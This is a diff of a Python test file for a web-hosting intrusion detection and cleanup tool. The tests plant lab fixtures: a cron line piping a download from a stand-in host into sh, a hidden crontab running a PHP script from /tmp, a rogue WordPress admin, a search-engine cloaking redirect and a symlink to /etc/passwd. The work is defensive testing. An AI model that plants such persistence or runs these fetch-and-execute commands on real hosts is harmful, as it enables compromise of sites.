@@ -16,6 +16,7 @@ from playbooks.hosting.connect import Shell, open_host
 from playbooks.hosting.intruders import cleaning
 from playbooks.hosting.site import Site
 from playbooks.plans import ChangedSincePlan
+from tests.lab.core import run
 from tests.lab.web import WebLab
 from tests.playbooks.hosting.steps import allowed, deployed, fresh, hosted, install_wordpress, killed, wordpress
 
@@ -31,6 +32,8 @@ CLOAKER = (
 PAGE = "<title>Slot Gacor Hari Ini</title><h1>Daftar situs slot gacor maxwin, deposit pulsa, bandar togel online</h1>"
 HTACCESS = "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} googlebot [NC]\nRewriteRule .* http://judi.invalid/ [R]\n"
 CRON = "* * * * * www-data curl -s http://judi.invalid/x | sh\n"
+CRONTAB = "MAILTO=tik@lab.test\n0 3 * * * date\n*/5 * * * * php /tmp/.sesi/a.php 50%\n"
+"""Of the web user, whose second job is an intruder's."""
 ADMIN = """
 insert into bersih_web.wp_users (ID, user_login, user_registered) values (77, 'sistem_wp', '2026-01-02');
 insert into bersih_web.wp_usermeta (user_id, meta_key, meta_value)
@@ -99,12 +102,18 @@ def intruded(ground: Ground, clean: TargetResult) -> Iterator[TargetResult]:
     (ground.base / UPLOADS / "logo.png").symlink_to("/etc/passwd")
     timetable = Path("/etc/cron.d/php-sesi")
     _plant(timetable, CRON)
+    _crontab("-", text=CRONTAB)
     ground.lab.sql(ADMIN)
     web = Path(files.web_path(ground.site))
     web.write_text(web.read_text().replace("location ~ /\\. { return 404; }", ""))
     ground.shell.privileged(ground.site.host.commands.nginx_reload)
     yield ground.look()
     timetable.unlink()
+    _crontab("-r")
+
+
+def _crontab(what: str, text: str = "") -> str:
+    return run("crontab", "-u", "www-data", what, stdin=text).stdout
 
 
 def _plant(path: Path, text: str) -> None:
@@ -177,8 +186,25 @@ def test_an_unknown_admin_is_found_and_the_known_one_is_not(intruded: TargetResu
     assert "sistem_wp" in admin.evidence
 
 
-def test_a_timetable_that_fetches_programs_is_found(intruded: TargetResult) -> None:
-    assert ("files.webshell", "jadwal (cron)") in found(intruded)
+def test_bad_lines_of_timetables_are_found_and_kept(intruded: TargetResult) -> None:
+    places = {f"jadwal (cron) {place}" for place in ("www-data", "/etc/cron.d/php-sesi")}
+    assert {("files.webshell", place) for place in places} <= found(intruded)
+    assert {each.path: each.data for each in intruded.copies if "cron" in each.path} == {
+        "jadwal (cron) www-data": CRONTAB.encode(),
+        "jadwal (cron) /etc/cron.d/php-sesi": CRON.encode(),
+    }
+
+
+def test_a_crontab_that_the_host_does_not_show_is_said_and_files_do_not_pass_for_clean(ground: Ground) -> None:
+    sudoers = Path("/etc/sudoers.d/pelihara")
+    rules = sudoers.read_text()
+    sudoers.write_text(rules.replace("-u www-data -l", "-u www-data -V"))
+    try:
+        told = check.check(ground.site, ground.shell)
+    finally:
+        sudoers.write_text(rules)
+    assert "jadwal (crontab) milik www-data tidak terbaca" in told.detail
+    assert "files" not in told.checked
 
 
 def test_open_doors_are_found_by_asking_and_their_secrets_are_not_quoted(
@@ -229,6 +255,7 @@ def test_a_clean_up_moves_everything_out_restores_the_release_and_can_be_undone(
     assert {
         f"karantina {UPLOADS}/2026/01/gambar.php (files.unknown, files.webshell)",
         "cabut hak admin 'sistem_wp'",
+        "matikan jadwal (cron) www-data: */5 * * * * php /tmp/.sesi/a.php 50%",
     } <= {*planned.changes}
     midway = killed(lambda tick, step: cleaning.apply(planned, site, fresh(site), tick, step), at=4)
     assert midway == -9
@@ -239,6 +266,8 @@ def test_a_clean_up_moves_everything_out_restores_the_release_and_can_be_undone(
     assert (done.status, done.detail) == ("applied", "")
     assert not {each["code"] for each in done.after} - {"files.unknown", "files.webshell"}, done.after
     assert cleaning.plan(site, shell).changes == ()
+    silenced = CRONTAB.replace("*/5", f"# pelihara {planned.details['quarantine']}: */5")
+    assert _crontab("-l") == silenced
     aside = ground.base / "quarantine" / planned.details["quarantine"]
     assert (aside / "files" / UPLOADS / "2026/01/gambar.php").read_text() == SHELL
     assert (aside.stat().st_mode & 0o777, (aside / "manifest.json").stat().st_mode & 0o777) == (0o700, 0o600)
@@ -248,5 +277,6 @@ def test_a_clean_up_moves_everything_out_restores_the_release_and_can_be_undone(
     assert (ground.base / "current/wp-cron.php").exists()
     undone = cleaning.apply(cleaning.plan_undo(site, shell), site, shell, allowed)
     assert undone.status == "applied"
+    assert _crontab("-l") == CRONTAB
     assert (ground.base / UPLOADS / "2026/01/gambar.php").read_text() == SHELL
     assert cleaning.plan(site, shell).details["admins"] == {"sistem_wp": 77}
